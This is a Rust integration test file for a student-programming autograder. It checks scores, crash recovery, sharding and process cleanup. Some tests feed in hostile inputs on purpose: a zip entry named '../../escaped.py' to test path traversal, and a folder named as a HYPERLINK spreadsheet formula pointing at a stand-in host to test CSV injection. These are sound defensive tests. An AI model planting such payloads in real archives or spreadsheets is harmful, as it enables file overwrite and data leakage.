//! `sockgrade grade` and `merge` on a small class made from the fixtures, with real
//! processes and sockets: the gradebook's scores, resume after kill -9, shards merged,
//! and no student process left behind.

use assert_cmd::cargo::cargo_bin;
use assert_cmd::Command;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::OnceLock;

mod common;
use common::{assert_no_student_processes, copy_dir, journaled_students, root, rows};

const SPEC: &str = "specs/tcp-basics.toml";

fn zip_dir(from: &Path, to: &Path, extra: &[(&str, &[u8])]) {
    let mut z = zip::ZipWriter::new(std::fs::File::create(to).unwrap());
    let opts = zip::write::SimpleFileOptions::default();
    for e in std::fs::read_dir(from).unwrap().flatten() {
        z.start_file(e.file_name().to_string_lossy(), opts).unwrap();
        z.write_all(&std::fs::read(e.path()).unwrap()).unwrap();
    }
    for (name, data) in extra {
        z.start_file(*name, opts).unwrap();
        z.write_all(data).unwrap();
    }
    z.finish().unwrap();
}

/// The class: one of each layout and failure a real export has.
fn make_class(dir: &Path) {
    let fx = root().join("fixtures");
    copy_dir(&fx.join("good"), &dir.join("alice"));
    copy_dir(&fx.join("server_single_client"), &dir.join("bob"));
    zip_dir(&fx.join("server_recv5"), &dir.join("carol.zip"), &[]);
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(dir.join("dave.tar.gz")).unwrap(),
        flate2::Compression::default(),
    );
    let mut tar = tar::Builder::new(gz);
    tar.append_dir_all(".", fx.join("client_no_print")).unwrap();
    tar.into_inner().unwrap().finish().unwrap();
    // Moodle: the files one level deeper, the id before `_<digits>_assignsubmission`.
    copy_dir(
        &fx.join("good"),
        &dir.join("Li Lei_12345_assignsubmission_file_").join("hw"),
    );
    // Moodle with the student's zip alone in the folder.
    std::fs::create_dir_all(dir.join("ivan_777_assignsubmission_file_")).unwrap();
    zip_dir(
        &fx.join("good_threaded"),
        &dir.join("ivan_777_assignsubmission_file_")
            .join("homework.zip"),
        &[],
    );
    // No file the spec's patterns match.
    std::fs::create_dir_all(dir.join("erin")).unwrap();
    std::fs::write(dir.join("erin").join("notes.txt"), "I did not finish\n").unwrap();
    // Not a zip at all.
    std::fs::write(dir.join("frank.zip"), "this is not a zip archive").unwrap();
    // A 2 GB (sparse) file beside a correct program.
    copy_dir(&fx.join("good"), &dir.join("gina"));
    std::fs::File::create(dir.join("gina").join("video.mp4"))
        .unwrap()
        .set_len(2 << 30)
        .unwrap();
    // An entry that climbs out of the archive.
    zip_dir(
        &fx.join("good"),
        &dir.join("henry.zip"),
        &[("../../escaped.py", b"print('x')\n")],
    );
}

/// A TMPDIR per test (tests run at once): student work folders, and so the cwd of
/// every student process, are in it, which tells this test's students from others'.
fn test_tmp(name: &str) -> PathBuf {
    let p = std::env::temp_dir().join(format!("sockgrade-bulk-test-{}-{name}", std::process::id()));
    std::fs::create_dir_all(&p).unwrap();
    p
}

fn grader_in(tmp: &Path) -> Command {
    let mut c = Command::cargo_bin("sockgrade").unwrap();
    c.current_dir(root()).env("TMPDIR", tmp);
    c
}

fn grader() -> Command {
    grader_in(&test_tmp("misc"))
}

struct Reference {
    class: PathBuf,
    tmp: PathBuf,
    gradebook: String,
    /// lms.csv: like the gradebook, the same however the run went.
    lms: String,
    _dir: tempfile::TempDir,
}

/// One uninterrupted run of the whole class, shared by the tests that compare with it.
fn reference() -> &'static Reference {
    static R: OnceLock<Reference> = OnceLock::new();
    R.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        let class = dir.path().join("class");
        make_class(&class);
        let out = dir.path().join("out");
        let tmp = test_tmp("reference");
        grader_in(&tmp)
            .args(["grade", SPEC])
            .arg(&class)
            .arg("--out")
            .arg(&out)
            .assert()
            .code(0);
        let gradebook = std::fs::read_to_string(out.join("gradebook.csv")).unwrap();
        let lms = std::fs::read_to_string(out.join("lms.csv")).unwrap();
        Reference {
            class,
            tmp,
            gradebook,
            lms,
            _dir: dir,
        }
    })
}

#[test]
fn gradebook_has_the_right_score_for_every_student() {
    let r = reference();
    let got = rows(&r.gradebook);
    let expect: &[(&str, u32, &str)] = &[
        ("Li Lei", 22, "passed"),
        ("alice", 22, "passed"),
        // Server-only or client-only submissions: the other half is a missing file.
        ("bob", 11, "error"),
        ("carol", 12, "error"),
        ("dave", 7, "error"),
        ("erin", 0, "error"),
        ("frank", 0, "error"),
        ("gina", 0, "error"),
        ("henry", 0, "error"),
        ("ivan", 13, "error"),
    ];
    let names: Vec<&str> = got.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        expect.iter().map(|e| e.0).collect::<Vec<_>>(),
        "{}",
        r.gradebook
    );
    for (student, score, status) in expect {
        let (s, st, _) = &got[*student];
        assert_eq!(
            (s, st.as_str()),
            (score, *status),
            "{student}: {}",
            r.gradebook
        );
    }
    assert!(
        got["erin"].2.contains("no file matches") && got["erin"].2.contains("notes.txt"),
        "{:?}",
        got["erin"]
    );
    assert!(
        got["frank"].2.contains("not a readable zip archive"),
        "{:?}",
        got["frank"]
    );
    assert!(got["gina"].2.contains("larger than"), "{:?}", got["gina"]);
    assert!(
        got["henry"].2.contains("outside the archive"),
        "{:?}",
        got["henry"]
    );
    assert!(!r.class.parent().unwrap().join("escaped.py").exists());
    assert_no_student_processes(&r.tmp);
}

#[test]
fn reports_are_written_per_student() {
    let dir = tempfile::tempdir().unwrap();
    let class = dir.path().join("class");
    copy_dir(&root().join("fixtures/good"), &class.join("alice"));
    let out = dir.path().join("out");
    let output = grader()
        .args(["grade", SPEC])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let summary = String::from_utf8_lossy(&output.stdout);
    assert!(summary.contains("pass rate per case"), "{summary}");
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("reports/alice.json")).unwrap()).unwrap();
    assert_eq!(json["score"], 22);
    let text = std::fs::read_to_string(out.join("reports/alice.txt")).unwrap();
    assert!(
        text.contains("Score: 22/22") && !text.contains('\u{1b}'),
        "{text}"
    );
    // A second run into the same folder must not silently replace the first.
    grader()
        .args(["grade", SPEC])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .assert()
        .code(2)
        .stderr(predicates::str::contains("--resume"));
    // Nothing to resume in an empty folder.
    grader()
        .args(["grade", SPEC])
        .arg(&class)
        .arg("--out")
        .arg(dir.path().join("empty"))
        .arg("--resume")
        .assert()
        .code(2);
    grader()
        .args(["grade", SPEC])
        .arg(&class)
        .args(["--shard", "3/2"])
        .assert()
        .code(2);
}

/// Starts `sockgrade grade` on the reference class (2 jobs, `TMPDIR` = `tmp`) and
/// returns once a student is in the journal: not a sleep, the progress line says so.
/// Its stderr is returned open, so that what it prints later does not meet a closed pipe.
fn grade_until_first_student(
    out: &Path,
    tmp: &Path,
) -> (std::process::Child, BufReader<std::process::ChildStderr>) {
    let mut child = std::process::Command::new(cargo_bin("sockgrade"))
        .current_dir(root())
        .env("TMPDIR", tmp)
        .args(["grade", SPEC])
        .arg(&reference().class)
        .arg("--out")
        .arg(out)
        .args(["--jobs", "2"])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    while stderr.read_line(&mut line).unwrap() > 0 && !line.starts_with("[1/") {
        line.clear();
    }
    (child, stderr)
}

#[test]
fn resume_after_kill_9_gives_the_same_gradebook() {
    let r = reference();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let tmp = test_tmp("resume");
    let (mut child, _stderr) = grade_until_first_student(&out, &tmp);
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
    let students = journaled_students(&out);
    assert!(
        (1..10).contains(&students),
        "the kill should land mid-run: {students} students journaled"
    );

    grader_in(&tmp)
        .args(["grade", SPEC])
        .arg(&r.class)
        .arg("--out")
        .arg(&out)
        .arg("--resume")
        .assert()
        .code(0)
        .stderr(predicates::str::contains("resuming"));
    let resumed = std::fs::read_to_string(out.join("gradebook.csv")).unwrap();
    assert_eq!(resumed, r.gradebook);
    assert_eq!(std::fs::read_to_string(out.join("lms.csv")).unwrap(), r.lms);
    assert!(out.join("report.html").exists());
    assert_eq!(journaled_students(&out), 10);
    assert_no_student_processes(&tmp);
}

#[test]
fn shards_merged_equal_one_full_run() {
    let r = reference();
    let dir = tempfile::tempdir().unwrap();
    let mut outs = Vec::new();
    for k in 1..=2 {
        let out = dir.path().join(format!("shard-{k}"));
        grader()
            .args(["grade", SPEC])
            .arg(&r.class)
            .arg("--out")
            .arg(&out)
            .arg("--shard")
            .arg(format!("{k}/2"))
            .assert()
            .code(0);
        outs.push(out);
    }
    let a = rows(&std::fs::read_to_string(outs[0].join("gradebook.csv")).unwrap());
    let b = rows(&std::fs::read_to_string(outs[1].join("gradebook.csv")).unwrap());
    assert!(
        !a.is_empty() && !b.is_empty() && a.keys().all(|k| !b.contains_key(k)),
        "shards overlap or one is empty: {a:?} {b:?}"
    );
    // A missing shard is said, and is not a success.
    grader()
        .arg("merge")
        .arg(&outs[0])
        .arg("--out")
        .arg(dir.path().join("half"))
        .assert()
        .code(1)
        .stderr(predicates::str::contains("2/2 is missing"));
    let merged = dir.path().join("merged");
    grader()
        .arg("merge")
        .args(&outs)
        .arg("--out")
        .arg(&merged)
        .assert()
        .code(0);
    assert_eq!(
        std::fs::read_to_string(merged.join("gradebook.csv")).unwrap(),
        r.gradebook
    );
    assert!(merged.join("reports/alice.txt").exists());
    assert_eq!(
        std::fs::read_to_string(merged.join("lms.csv")).unwrap(),
        r.lms
    );
    assert!(merged.join("report.html").exists());
}

#[test]
fn python2_submissions_run_with_the_fallback_interpreter() {
    if sockgrade::runner::interpreter::resolve_program("python2").is_none() {
        eprintln!("SKIPPED: no python2 on this machine (pyenv install 2.7.18 to run this test)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let class = dir.path().join("class");
    copy_dir(
        &root().join("fixtures/python2_pair"),
        &class.join("oldtimer"),
    );
    let out = dir.path().join("out");
    grader()
        .args(["grade", SPEC])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .assert()
        .code(0);
    let got = rows(&std::fs::read_to_string(out.join("gradebook.csv")).unwrap());
    assert_eq!(got["oldtimer"].0, 22, "{:?}", got["oldtimer"]);
    assert!(
        got["oldtimer"]
            .2
            .contains("graded with `python2 tcp_server.py`"),
        "{:?}",
        got["oldtimer"]
    );
    let text = std::fs::read_to_string(out.join("reports/oldtimer.txt")).unwrap();
    assert!(text.contains("does not compile with python3"), "{text}");
}

/// Many cases at once (far more than the CPUs) change nothing: the same gradebook as the
/// reference run, no case lost to the grader's own limits (descriptors, threads).
#[test]
fn many_jobs_give_the_same_gradebook() {
    let r = reference();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    grader_in(&r.tmp)
        .args(["grade", SPEC])
        .arg(&r.class)
        .arg("--out")
        .arg(&out)
        .args(["--jobs", "64"])
        .assert()
        .code(0);
    let gradebook = std::fs::read_to_string(out.join("gradebook.csv")).unwrap();
    assert_eq!(rows(&gradebook), rows(&r.gradebook));
}

/// Waits (on a pidfd, up to `limit`) until process `pid` has ended; true if it has.
fn ended_within(pid: i32, limit: std::time::Duration) -> bool {
    // SAFETY: plain system calls; the descriptor is closed before returning.
    unsafe {
        let fd = libc::syscall(libc::SYS_pidfd_open, pid, 0) as i32;
        if fd < 0 {
            return true; // no such process
        }
        let mut p = libc::pollfd {
            fd,
            events: libc::POLLIN,
            revents: 0,
        };
        let ready = libc::poll(&mut p, 1, limit.as_millis() as i32) == 1;
        libc::close(fd);
        ready
    }
}

/// Processes whose parent is `ppid` and whose command line contains `needle`.
fn children_with(ppid: u32, needle: &str) -> Vec<i32> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let status = std::fs::read_to_string(e.path().join("status")).unwrap_or_default();
        let parent = status
            .lines()
            .find_map(|l| l.strip_prefix("PPid:"))
            .and_then(|p| p.trim().parse::<u32>().ok());
        let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        if parent == Some(ppid) && String::from_utf8_lossy(&cmd).contains(needle) {
            out.push(pid);
        }
    }
    out
}

#[test]
fn ctrl_c_stops_cleanly_and_leaves_no_process_behind() {
    let r = reference();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let tmp = test_tmp("ctrl-c");
    let (mut child, _stderr) = grade_until_first_student(&out, &tmp);
    // The fork server that started the students' programs (the grader's child).
    let servers = children_with(child.id(), "sockgrade warm start");
    assert!(!servers.is_empty(), "no fork server under the grader");
    // SAFETY: a signal to our own child, not reaped yet.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    use wait_timeout::ChildExt;
    let status = child
        .wait_timeout(std::time::Duration::from_secs(30))
        .unwrap()
        .expect("the grader stops within 30 s of Ctrl-C");
    assert_eq!(status.code(), Some(130), "Ctrl-C is exit code 130");
    for pid in servers {
        assert!(
            ended_within(pid, std::time::Duration::from_secs(10)),
            "the fork server {pid} outlived the grader"
        );
    }
    assert_no_student_processes(&tmp);
    // The journal is valid: a resumed run finishes the class with the same gradebook.
    grader_in(&tmp)
        .args(["grade", SPEC])
        .arg(&r.class)
        .arg("--out")
        .arg(&out)
        .arg("--resume")
        .assert()
        .code(0);
    assert_eq!(
        std::fs::read_to_string(out.join("gradebook.csv")).unwrap(),
        r.gradebook
    );
}

/// A student folder named like a spreadsheet formula lands as text, not a live formula,
/// in gradebook.csv and lms.csv (OWASP CSV injection); a hidden entry of the class
/// folder is listed as not graded, not silently left out.
#[test]
fn formula_names_are_neutralised_and_hidden_entries_listed() {
    let dir = tempfile::tempdir().unwrap();
    let class = dir.path().join("class");
    let out = dir.path().join("out");
    let evil = "=HYPERLINK(\"x.example\"&A1,\"click\")";
    for name in [evil, ".hidden"] {
        std::fs::create_dir_all(class.join(name)).unwrap();
        std::fs::write(class.join(name).join("notes.txt"), "no code").unwrap();
    }
    let run = grader()
        .args(["grade", "specs/tcp-basics.toml"])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(0), "{run:?}");
    let stdout = String::from_utf8_lossy(&run.stdout);
    assert!(stdout.contains(".hidden (hidden)"), "{stdout}");
    for file in ["gradebook.csv", "lms.csv"] {
        let text = std::fs::read_to_string(out.join(file)).unwrap();
        let mut r = csv::Reader::from_reader(text.as_bytes());
        for row in r.records() {
            let row = row.unwrap();
            for cell in row.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@']),
                    "{file}: a live formula {cell:?}"
                );
            }
            assert!(
                row.iter().any(|c| c == format!("'{evil}")),
                "{file}: {row:?}"
            );
        }
    }
}

/// A panic while grading one student is that student's error, never the end of the
/// class; a deliberate stop is not counted as a crash.
#[test]
fn a_panic_while_grading_one_student_is_that_students_error() {
    let dir = tempfile::tempdir().unwrap();
    let class = dir.path().join("class");
    let fx = root().join("fixtures");
    copy_dir(&fx.join("good"), &class.join("alice"));
    copy_dir(&fx.join("good"), &class.join("mallory"));
    let out = dir.path().join("out");
    grader_in(&test_tmp("panic"))
        .env("SOCKGRADE_TEST_PANIC_ON", "mallory")
        .args(["grade", SPEC])
        .arg(&class)
        .arg("--out")
        .arg(&out)
        .assert()
        .code(0);
    let book = rows(&std::fs::read_to_string(out.join("gradebook.csv")).unwrap());
    assert_eq!(book["alice"].1, "passed", "{book:?}");
    assert_eq!(book["mallory"].1, "error", "{book:?}");
    assert!(
        book["mallory"]
            .2
            .contains("the grader failed while grading this submission (a panic: SOCKGRADE_TEST_PANIC_ON=mallory)"),
        "{book:?}"
    );
}
